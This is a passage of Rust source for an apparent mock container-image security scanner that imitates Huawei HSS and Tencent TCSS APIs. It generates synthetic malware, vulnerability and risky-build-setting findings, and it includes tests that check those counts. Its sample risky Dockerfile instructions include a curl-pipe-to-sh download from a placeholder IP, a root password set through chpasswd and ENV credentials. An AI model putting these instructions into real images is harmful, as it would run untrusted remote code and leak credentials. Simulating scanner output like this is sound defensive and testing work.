    let image = hss_image(&inventory(&state), &req.image_id).unwrap_or_default();
    let all: Vec<ImageRiskConfig> = hss_baselines(&image)
        .into_iter()
        .filter(|b| {
            req.standard
                .is_none_or(|s| b.standard.as_deref() == Some(s.as_str()))
        })
        .collect();
    let (total_num, data_list) = filtered_page(&req, all);
    ok_json(&ImageRiskConfigList {
        total_num,
        data_list,
    })
}

/// Every malicious file of a TCSS registry image: as many as `VirusCnt`.
pub(super) fn tcss_image_viruses(image: &RegistryImage) -> Vec<ImageVirus> {
    let count = usize::try_from(image.virus_cnt.unwrap_or(0)).unwrap_or(0);
    malware_of(u64::try_from(image.id).unwrap_or(0), count)
        .into_iter()
        .map(|(m, path)| ImageVirus {
            file_name: Some(file_name(&path)),
            path: Some(path),
            risk_level: Some(m.level.to_owned()),
            category: Some(m.category.to_owned()),
            virus_name: Some(m.name.to_owned()),
            tags: m.tags.iter().map(|t| (*t).to_owned()).collect(),
            desc: Some(m.desc_zh.to_owned()),
            solution: Some(VIRUS_SOLUTION.to_owned()),
            file_type: Some(m.file_type.to_owned()),
            file_md5: Some(m.md5.to_owned()),
            file_size: Some(m.size),
            first_scan_time: image.scan_time.clone(),
            latest_scan_time: image.scan_time.clone(),
        })
        .collect()
}

/// A catalogued risky build setting: `Behavior`, `Type`, `Level`, the
/// service's (Chinese) description and the image history's instruction.
/// Tencent documents no meaning for the codes; the password findings are
/// its own example's (behaviour 3, type 2, level "3").
const RISKS: &[(i64, i64, &str, &str, &str)] = &[
    (
        3,
        2,
        "3",
        "Dockerfile中环境变量包含密码",
        "/bin/sh -c #(nop)  ENV ROOTPASSWD=example-2473",
    ),
    (
        1,
        1,
        "2",
        "镜像以root用户运行",
        "/bin/sh -c #(nop)  USER root",
    ),
    (
        3,
        2,
        "3",
        "Dockerfile中存在账号密码、认证凭据等敏感信息",
        "/bin/sh -c echo root:example-654321 | chpasswd",
    ),
    (
        4,
        1,
        "4",
        "Dockerfile中从不可信地址下载并执行脚本",
        "/bin/sh -c curl -fsSL http://203.0.113.7/install.sh | sh",
    ),
    (
        2,
        1,
        "2",
        "Dockerfile中暴露了SSH端口",
        "/bin/sh -c #(nop)  EXPOSE 22/tcp",
    ),
    (
        3,
        2,
        "3",
        "Dockerfile中环境变量包含访问密钥",
        "/bin/sh -c #(nop)  ENV AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
    ),
    (
        4,
        1,
        "1",
        "Dockerfile中使用ADD指令从远程地址获取文件",
        "/bin/sh -c #(nop) ADD http://203.0.113.7/app.tar.gz /opt/app/",
    ),
];

/// When the image's layers were built: before the scan, a few days apart.
const LAYERS_BUILT_MS: i64 = 1_793_000_000_000;

/// Every risky build setting of a TCSS registry image: as many as
/// `RiskCnt`. Each instruction carries the time its layer was built
/// first, as the service sends it.
pub(super) fn tcss_image_risks(image: &RegistryImage) -> Vec<ImageRisk> {
    let count = usize::try_from(image.risk_cnt.unwrap_or(0)).unwrap_or(0);
    let seed = u64::try_from(image.id).unwrap_or(0);
    let start = usize::try_from(mix(seed) % RISKS.len() as u64).unwrap_or(0);
    let built = LAYERS_BUILT_MS + i64::try_from(mix(seed) % (20 * 86_400_000)).unwrap_or(0);
    (0..count)
        .map(|i| {
            let (behavior, kind, level, desc, instruction) = RISKS[(start + i) % RISKS.len()];
            let layer_time = tencent_time(built + i64::try_from(i).unwrap_or(0) * 7_000);
            ImageRisk {
                behavior: Some(behavior),
                r#type: Some(kind),
                level: Some(level.to_owned()),
                desc: Some(desc.to_owned()),
                instruction_content: Some(format!("{layer_time}\n{instruction}")),
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_hold_and_cves_are_shared() {
        for total in [0, 1, 19, 39, 150] {
            let mut ids: Vec<String> = hss_findings(5, total).into_iter().map(|f| f.id).collect();
            assert_eq!(ids.len(), total);
            ids.sort_unstable();
            ids.dedup();
            assert_eq!(ids.len(), total, "no CVE twice in one image");
        }
        let a: Vec<String> = hss_findings(1, 19).into_iter().map(|f| f.id).collect();
        let b: Vec<String> = hss_findings(2, 19).into_iter().map(|f| f.id).collect();
        assert!(a.iter().any(|id| b.contains(id)), "images share CVEs");
        let image = RegistryImage {
            id: 3,
            critical_level_vul_cnt: Some(2),
            high_level_vul_cnt: Some(7),
            medium_level_vul_cnt: Some(9),
            low_level_vul_cnt: Some(11),
            ..RegistryImage::default()
        };
        let vuls = tcss_image_vulnerabilities(&image);
        assert_eq!(vuls.len(), 29);
        assert_eq!(
            vuls.iter()
                .filter(|v| v.level.as_deref() == Some("HIGH"))
                .count(),
            7
        );
        let mut ids: Vec<&str> = vuls.iter().filter_map(|v| v.cve_id.as_deref()).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), 29, "no CVE twice in one image");
    }

    fn hss(id: &str, scanned: bool, malicious: usize, unsafe_settings: usize) -> HssImage {
        HssImage {
            image_id: id.to_owned(),
            image_name: "checkout".to_owned(),
            scanned,
            vulnerabilities: 0,
            malicious,
            unsafe_settings,
            latest_scan_time: Some(1_790_000_000_000),
        }
    }

    fn failed_checks(baselines: &[ImageRiskConfig]) -> i64 {
        baselines.iter().filter_map(|b| b.failed_rule_num).sum()
    }

    #[test]
    fn malicious_files_and_failed_checks_match_the_counts() {
        for n in [0, 1, 2, 7, 8, 20] {
            let files = hss_malware(&hss("sha256:0a1b2c3d4e5f", true, n, 0));
            assert_eq!(files.len(), n);
            let mut paths: Vec<_> = files.iter().filter_map(|f| f.file_path.clone()).collect();
            paths.sort_unstable();
            paths.dedup();
            assert_eq!(paths.len(), n, "no path twice in one image");
            assert!(
                files
                    .iter()
                    .all(|f| f.size.is_some_and(|s| (0..=65_535).contains(&s)))
            );
        }
        for m in 0..=20 {
            let baselines = hss_baselines(&hss("sha256:0a1b2c3d4e5f", true, 0, m));
            assert_eq!(baselines.len(), 3);
            assert_eq!(failed_checks(&baselines), i64::try_from(m).unwrap());
            for b in &baselines {
                let failed = b.failed_rule_num.unwrap();
                assert!(failed <= b.check_rule_num.unwrap(), "{b:?}");
                assert_eq!(
                    b.severity.as_deref() == Some("Security"),
                    failed == 0,
                    "{b:?}"
                );
                assert!(matches!(
                    b.standard.as_deref(),
                    Some("hw_standard" | "cn_standard")
                ));
            }
        }
        let never = hss("sha256:0a1b2c3d4e5f", false, 0, 0);
        assert!(
            hss_baselines(&never).is_empty(),
            "no baseline before a scan"
        );
        assert!(hss_sensitive(&never).is_empty(), "no secret before a scan");
    }

    #[test]
    fn every_sandbox_image_lists_what_its_counts_say() {
        let inv = Inventory::generate(1, std::time::Duration::from_secs(3));
        let count = |n: Option<i64>| usize::try_from(n.unwrap_or(0)).unwrap();
        let mut sensitive = Vec::new();
        let swr = inv.images.iter().map(|i| {
            (
                i.image_id.clone().unwrap(),
                i.scan_status.clone(),
                i.malicious_file_num,
                i.unsafe_setting_num,
            )
        });
        let third_party = inv.registry_images.iter().map(|i| {
            (
                i.image_id.clone().unwrap(),
                i.scan_status.clone(),
                i.malicious_file_num,
                i.unsafe_setting_num,
            )
        });
        for (id, status, malicious, unsafe_settings) in swr.chain(third_party) {
            let image = hss_image(&inv, &id).unwrap();
            assert_eq!(hss_malware(&image).len(), count(malicious), "{id}");
            let baselines = hss_baselines(&image);
            assert_eq!(
                failed_checks(&baselines),
                unsafe_settings.unwrap_or(0),
                "{id}"
            );
            let secrets = hss_sensitive(&image);
            assert!(secrets.len() <= 4);
            assert_eq!(secrets, hss_sensitive(&image), "the same on every look");
            if status.as_deref() != Some("success") {
                assert!(secrets.is_empty(), "{id}: secrets without a scan");
            }
            if status.as_deref() == Some("unscan") {
                assert!(
                    baselines.is_empty() && hss_malware(&image).is_empty(),
                    "{id}: findings without a scan"
                );
            }
            sensitive.push(secrets.len());
        }
        assert!(sensitive.contains(&0) && sensitive.iter().any(|n| *n > 0));
        assert!(hss_image(&inv, "sha256:nosuchimage").is_none());

        for image in &inv.tcss_images {
            let viruses = tcss_image_viruses(image);
            let risks = tcss_image_risks(image);
            assert_eq!(viruses.len(), count(image.virus_cnt), "{}", image.id);
            assert_eq!(risks.len(), count(image.risk_cnt), "{}", image.id);
            if image.scan_status.as_deref() == Some(scanport_wire::tcss::scan_status::NOT_SCAN) {
                assert!(viruses.is_empty() && risks.is_empty(), "{}", image.id);
            }
            let digit = |l: Option<&str>| matches!(l, Some("1" | "2" | "3" | "4"));
            assert!(viruses.iter().all(|v| digit(v.risk_level.as_deref())));
            assert!(risks.iter().all(|r| digit(r.level.as_deref())));
            assert!(
                viruses
                    .iter()
                    .all(|v| v.file_md5.as_ref().is_some_and(|m| m.len() == 32))
            );
        }
        assert!(inv.tcss_images.iter().any(|i| i.virus_cnt > Some(0)));
        assert!(inv.tcss_images.iter().any(|i| i.risk_cnt > Some(1)));
    }
}
